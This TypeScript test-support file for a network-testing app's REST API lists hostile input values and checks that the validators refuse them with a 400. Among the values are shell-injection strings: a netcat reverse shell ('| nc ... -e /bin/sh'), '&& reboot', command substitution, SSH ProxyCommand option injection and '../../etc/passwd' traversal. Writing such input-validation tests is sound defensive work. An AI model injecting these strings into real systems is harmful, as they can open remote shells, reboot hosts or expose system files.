/**
 * Test support only (imported by the hostile-input tests): hostile values for every kind of field, the
 * fields of each REST body with what each legitimately stores, and the check that a refusal is a 400
 * naming the field without echoing the value.
 */
import { randomBytes } from "node:crypto";
import { expect } from "vitest";
import { SAMPLE_KEYS, type CallOptions, type TestApi } from "@/testing/test-api";

/** Where a hostile value would leave a file if any shell ever ran it (one per test file). */
export const MARKER = `/tmp/ws-hostile-${randomBytes(6).toString("hex")}`;
export const MAX_ID = 2_147_483_647;

export type Case = { label: string; value: unknown };
export const cases = (entries: ReadonlyArray<readonly [string, unknown]>): Case[] =>
  entries.map(([label, value]) => ({ label, value }));

/** Shell metacharacters, quotes, line breaks, NUL, an over-long string, unicode tricks, option injection. */
export const HOSTILE_TEXT = cases([
  ["semicolon", `; touch ${MARKER}`],
  ["command substitution", `$(touch ${MARKER})`],
  ["backticks", `\`touch ${MARKER}\``],
  ["pipe to nc", `| nc 198.18.0.1 4444 -e /bin/sh`],
  ["and reboot", "&& reboot"],
  ["single quote", "'"],
  ["double quote", '"'],
  ["quotes breaking out", `'"; touch ${MARKER}; echo "'`],
  ["embedded newline", `eth0\ntouch ${MARKER}`],
  ["embedded CRLF", `eth0\r\ntouch ${MARKER}`],
  ["NUL byte", "eth0\u0000touch"],
  ["20 kB", "a".repeat(20 * 1024)],
  ["RTL override", "\u202Eeth0"],
  ["zero-width space", "eth\u200B0"],
  ["emoji", "eth0 🚀"],
  ["leading dash (an option)", `-oProxyCommand=touch ${MARKER}`],
  ["iperf3 option", `--logfile=${MARKER}`],
  ["path traversal", "../../etc/passwd"],
  ["variables", "${IFS}$HOME%PATH%!x!"],
]);

/** Strings that look like numbers or nothing: legitimate text in some fields, never a number. */
export const NUMBER_LIKE_TEXT = cases([
  ["numeric string", "5"],
  ["NaN string", "NaN"],
  ["Infinity string", "Infinity"],
  ["hex string", "0x10"],
  ["exponent string", "1e3"],
  ["empty string", ""],
]);

export const NOT_TEXT = cases([
  ["number", 42],
  ["negative number", -1],
  ["fraction", 1.5],
  ["huge number", 1e308],
  ["true", true],
  ["false", false],
  ["null", null],
  ["empty array", []],
  ["array of a string", ["x"]],
  ["empty object", {}],
  ["query operator object", { $ne: null }],
]);

export const NOT_NUMBER = cases([
  ["true", true],
  ["false", false],
  ["null", null],
  ["empty array", []],
  ["array of a number", [1]],
  ["empty object", {}],
  ["query operator object", { $gt: 0 }],
]);

export const NOT_BOOLEAN = cases([
  ["string true", "true"],
  ["string false", "false"],
  ["one", 1],
  ["zero", 0],
  ["null", null],
  ["empty array", []],
  ["empty object", {}],
]);

export type FieldSpec =
  /** `allows`: labels of the hostile table this field legitimately stores (verbatim) */
  | { kind: "text"; allows?: readonly string[]; nullable?: boolean; extra?: ReadonlyArray<readonly [string, unknown]> }
  | { kind: "number"; min: number; max: number; integer: boolean; nullable?: boolean }
  | { kind: "boolean" }
  | { kind: "enum"; nullable?: boolean; extra?: ReadonlyArray<readonly [string, unknown]> }
  /** `allows`: labels this list legitimately stores (a list of tags takes ["x"]) */
  | { kind: "list"; allows?: readonly string[] };

export type Expanded = Case & { isAllowed: boolean };

export function numberCases(spec: Extract<FieldSpec, { kind: "number" }>): Case[] {
  const values: Array<[string, number]> = [
    ["below the minimum", spec.min - 1],
    ["above the maximum", spec.max + 1],
    ["negative", -1],
    ["huge", 1e308],
    ["beyond 2^53", 2 ** 53 + 2],
    ["large negative", -(2 ** 53)],
  ];
  if (spec.integer) values.push(["fraction", spec.min + 0.5]);
  return cases(values);
}

export function isAllowedNumber(spec: Extract<FieldSpec, { kind: "number" }>, value: unknown): boolean {
  if (value === null) return spec.nullable === true;
  return (
    typeof value === "number" && value >= spec.min && value <= spec.max && (!spec.integer || Number.isInteger(value))
  );
}

export function expand(spec: FieldSpec): Expanded[] {
  switch (spec.kind) {
    case "text": {
      const all = [...HOSTILE_TEXT, ...NUMBER_LIKE_TEXT, ...NOT_TEXT, ...cases(spec.extra ?? [])];
      return all.map((entry) => ({
        ...entry,
        isAllowed: (spec.allows ?? []).includes(entry.label) || (entry.value === null && spec.nullable === true),
      }));
    }
    case "number":
      return [...HOSTILE_TEXT, ...NUMBER_LIKE_TEXT, ...NOT_NUMBER, ...numberCases(spec)].map((entry) => ({
        ...entry,
        isAllowed: isAllowedNumber(spec, entry.value),
      }));
    case "boolean":
      return [...HOSTILE_TEXT, ...NOT_BOOLEAN].map((entry) => ({ ...entry, isAllowed: false }));
    case "enum":
      return [...HOSTILE_TEXT, ...NUMBER_LIKE_TEXT, ...NOT_TEXT, ...cases(spec.extra ?? [])].map((entry) => ({
        ...entry,
        isAllowed: entry.value === null && spec.nullable === true,
      }));
    case "list":
      return [
        ...[...HOSTILE_TEXT, ...NUMBER_LIKE_TEXT].map((entry) => ({ ...entry, isAllowed: false })),
        ...NOT_TEXT.filter((entry) => !Array.isArray(entry.value) || entry.value.length > 0).map((entry) => ({
          ...entry,
          isAllowed: (spec.allows ?? []).includes(entry.label),
        })),
        // one hostile address inside the list
        ...HOSTILE_TEXT.map((entry) => ({
          label: `list holding ${entry.label}`,
          value: ["198.18.0.9/24", entry.value],
          isAllowed: false,
        })),
        {
          label: "17 addresses",
          value: Array.from({ length: 17 }, (_, i) => `198.18.1.${i + 1}/24`),
          isAllowed: false,
        },
      ];
  }
}

// Everything a user can type that is free text, and what of the hostile table each keeps.
export const FREE_TEXT = HOSTILE_TEXT.map((entry) => entry.label).filter(
  (label) => !["NUL byte", "20 kB"].includes(label),
);
export const NOTES_ALLOWS = [...FREE_TEXT, ...NUMBER_LIKE_TEXT.map((entry) => entry.label)];
export const NAME_ALLOWS = ["numeric string", "NaN string", "Infinity string", "exponent string", "hex string"];
// A NIC model is shown, never run: any text on one line, 1-128 characters.
export const MODEL_ALLOWS = FREE_TEXT.filter((label) => !["embedded newline", "embedded CRLF"].includes(label)).concat(
  NAME_ALLOWS,
);
// Secrets go to the SSH library only: any 1-1024 characters.
export const SECRET_ALLOWS = [
  ...HOSTILE_TEXT.map((entry) => entry.label).filter((label) => label !== "20 kB"),
  ...NAME_ALLOWS,
];

export const HOST_FIELDS: Record<string, FieldSpec> = {
  name: { kind: "text", allows: NAME_ALLOWS },
  // NaN, Infinity, 0x10 and 1e3 are host names as good as any (a last label with a letter); 5 is neither a name nor an address.
  address: {
    kind: "text",
    allows: ["NaN string", "Infinity string", "hex string", "exponent string"],
    extra: [
      ["address and an option", "198.18.0.1 -p 22"],
      ["bracketed IPv6", "[::1]"],
      ["IPv6 with a zone", "fe80::1%eth0"],
      ["trailing dot and dash", "host-.lab"],
    ],
  },
  port: { kind: "number", min: 1, max: 65535, integer: true },
  username: { kind: "text", allows: NAME_ALLOWS, extra: [["space", "ro ot"]] },
  platform: {
    kind: "enum",
    extra: [
      ["upper case", "LINUX"],
      ["with a newline", "linux\n"],
    ],
  },
  iperf3Path: {
    kind: "text",
    nullable: true,
    extra: [
      ["a shell", "/bin/sh"],
      ["cmd.exe", "C:\\Windows\\System32\\cmd.exe"],
      ["path then a command", "/usr/bin/iperf3; reboot"],
      ["path with substitution", "/usr/bin/$(touch x)/iperf3"],
      ["relative", "iperf3"],
      ["path ending in a newline", "/usr/bin/iperf3\n"],
      ["directory", "/usr/bin/iperf3/"],
    ],
  },
  hostKeyFingerprint: {
    kind: "text",
    nullable: true,
    extra: [
      ["MD5 form", "MD5:12:34"],
      ["one character short", `SHA256:${"A".repeat(42)}`],
    ],
  },
  // each sent with the other bound at its widest, so that the range itself is never the problem
  iperfPortMin: { kind: "number", min: 1, max: 65535, integer: true },
  iperfPortMax: { kind: "number", min: 1, max: 65535, integer: true },
  openFirewall: { kind: "boolean" },
  notes: { kind: "text", allows: NOTES_ALLOWS },
  access: { kind: "enum", extra: [["upper case", "SSH"]] },
  jumpHostId: { kind: "number", min: 1, max: MAX_ID, integer: true, nullable: true },
  // null: no kind, what every host but a device has
  kind: { kind: "enum", nullable: true, extra: [["upper case", "PHONE"]] },
  tags: { kind: "list", allows: ["array of a string"] },
  auth: { kind: "enum" },
  "auth.method": { kind: "enum", extra: [["upper case", "KEY"]] },
  "auth.privateKey": {
    kind: "text",
    extra: [
      ["public key", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIG9u user@host"],
      ["PuTTY key", "PuTTY-User-Key-File-3: ssh-ed25519"],
    ],
  },
  "auth.passphrase": { kind: "text", allows: SECRET_ALLOWS.filter((label) => label !== "empty string") },
  "auth.password": { kind: "text", allows: SECRET_ALLOWS.filter((label) => label !== "empty string") },
};

export const NIC_FIELDS: Record<string, FieldSpec> = {
  name: { kind: "text", allows: NAME_ALLOWS },
  address: {
    kind: "text",
    nullable: true,
    extra: [
      ["bad prefix", "198.18.0.1/33"],
      ["zone", "fe80::1%eth0"],
      ["octet over 255", "256.1.1.1"],
    ],
  },
  addresses: { kind: "list" },
  speedMbps: { kind: "number", min: 1, max: 1_000_000, integer: true, nullable: true },
  mtu: { kind: "number", min: 68, max: 65535, integer: true, nullable: true },
  model: { kind: "text", allows: MODEL_ALLOWS.filter((label) => label !== "empty string"), nullable: true },
  driver: { kind: "text", allows: NAME_ALLOWS, nullable: true },
  mac: { kind: "text", nullable: true, extra: [["mixed separators", "aa:bb-cc:dd:ee:ff"]] },
  // shown only: letters, digits, spaces, . and /
  pcieLinkSpeed: { kind: "text", allows: [...NAME_ALLOWS, "path traversal"], nullable: true },
  pcieLinkWidth: { kind: "number", min: 1, max: 32, integer: true, nullable: true },
  medium: { kind: "enum", nullable: true, extra: [["upper case", "WIFI"]] },
};

export const LINK_FIELDS: Record<string, FieldSpec> = {
  name: { kind: "text", allows: NAME_ALLOWS },
  speedMbps: { kind: "number", min: 1, max: 1_000_000, integer: true, nullable: true },
  notes: { kind: "text", allows: NOTES_ALLOWS },
};

// Every option of a run request. None of these values may start a run, so allowed ones are not sent.
export const RUN_FIELDS: Record<string, FieldSpec> = {
  protocol: {
    kind: "enum",
    extra: [
      ["upper case", "TCP"],
      ["sctp", "sctp"],
    ],
  },
  duration: { kind: "number", min: 1, max: 86_400, integer: true },
  parallel: { kind: "number", min: 1, max: 128, integer: true },
  bitrate: { kind: "number", min: 0, max: 1e13, integer: true },
  // below the default duration of 10 s
  omit: { kind: "number", min: 0, max: 9, integer: true },
  window: { kind: "number", min: 1024, max: 2 ** 31 - 1, integer: true },
  mss: { kind: "number", min: 88, max: 9216, integer: true },
  length: { kind: "number", min: 1, max: 1024 * 1024, integer: true },
  zerocopy: { kind: "boolean" },
  congestion: {
    kind: "text",
    allows: ["numeric string", "hex string", "exponent string"],
    extra: [
      ["upper case", "BBR"],
      ["17 characters", "a".repeat(17)],
      ["option", "-C"],
    ],
  },
  interval: { kind: "number", min: 0.1, max: 60, integer: false },
  tos: { kind: "number", min: 0, max: 255, integer: true },
  port: { kind: "number", min: 1, max: 65_535, integer: true },
  bind: {
    kind: "text",
    extra: [
      ["host name", "nas1.local"],
      ["address and an option", "198.18.0.1 -p 1"],
      ["long run of colons", `${":".repeat(60_000)}x`],
      ["zone with a space", "fe80::1%eth 0"],
      ["octet over 255", "999.1.1.1"],
    ],
  },
  direction: { kind: "enum", extra: [["upper case", "A-TO-B"]] },
  clientSide: {
    kind: "enum",
    extra: [
      ["c", "c"],
      ["upper case", "A"],
    ],
  },
  // set through direction: refused whatever their value
  reverse: {
    kind: "enum",
    extra: [
      ["true", true],
      ["false", false],
    ],
  },
  bidir: {
    kind: "enum",
    extra: [
      ["true", true],
      ["false", false],
    ],
  },
};

/** `{ a: { b: v } }` for "a.b". */
export function nested(field: string, value: unknown): Record<string, unknown> {
  const [head, ...rest] = field.split(".");
  return { [head!]: rest.length === 0 ? value : nested(rest.join("."), value) };
}

// The other port bound at its widest, so that the range itself is never what is refused.
export const COMPANIONS: Record<string, Record<string, unknown>> = {
  iperfPortMin: { iperfPortMax: 65535 },
  iperfPortMax: { iperfPortMin: 1 },
};

/** Puts `value` at `field` of a valid body, keeping the rest of a nested object (auth) valid. */
export function bodyWith(base: Record<string, unknown>, field: string, value: unknown): Record<string, unknown> {
  if (!field.includes(".")) return { ...base, ...COMPANIONS[field], [field]: value };
  const [head, key] = field.split(".") as [string, string];
  const rest: Record<string, Record<string, unknown>> = {
    method: {},
    privateKey: { method: "key" },
    passphrase: { method: "key", privateKey: SAMPLE_KEYS.openssh },
    password: { method: "password" },
  };
  return { ...base, [head]: { ...rest[key], ...nested(key, value) } };
}

// eslint-disable-next-line @typescript-eslint/no-explicit-any
export type Answer = { status: number; body: any; text: string; ms: number; contentType: string | null };

/** One call of the API (openTestApi's `call`) as an Answer: what it said, and how long it took to say it. */
export async function timedCall(
  api: TestApi,
  method: string,
  path: string,
  body?: unknown,
  options?: CallOptions,
): Promise<Answer> {
  const started = performance.now();
  const response = await api.call(method, path, body, options);
  const text = await response.text();
  return {
    status: response.status,
    body: text ? JSON.parse(text) : null,
    text,
    ms: performance.now() - started,
    contentType: response.headers.get("content-type"),
  };
}

/** A 400 naming `field` (or a part of it) and nothing else, in words, echoing no hostile text, answered fast. */
export function expectRefused(answer: Answer, field: string, label: string): void {
  const what = `${field} = ${label}`;
  expect(answer.status, `${what}: ${answer.text.slice(0, 300)}`).toBe(400);
  expect(answer.contentType, what).toMatch(/application\/json/);
  expect(answer.body.error.code, what).toBe("invalid");
  const fields: Array<{ field: string; message: string }> = answer.body.error.fields;
  // the field itself, or a part of it (auth.method for auth, addresses.1 for addresses)
  expect(
    fields.some((entry) => entry.field === field || entry.field.startsWith(`${field}.`)),
    `${what}: ${answer.text.slice(0, 300)}`,
  ).toBe(true);
  for (const entry of fields) {
    expect(entry.field === field || entry.field.startsWith(`${field}.`), `${what}: also named ${entry.field}`).toBe(
      true,
    );
    // says what is allowed, in words
    expect(entry.message.length, what).toBeGreaterThan(10);
  }
  expect(answer.body.error.message, what).toContain(field);
  expect(answer.text, what).not.toContain(MARKER);
  expect(answer.text, what).not.toContain("a".repeat(100));
  // a pattern that backtracks would show here long before it blocks a server
  expect(answer.ms, `${what} took ${Math.round(answer.ms)} ms`).toBeLessThan(2000);
}
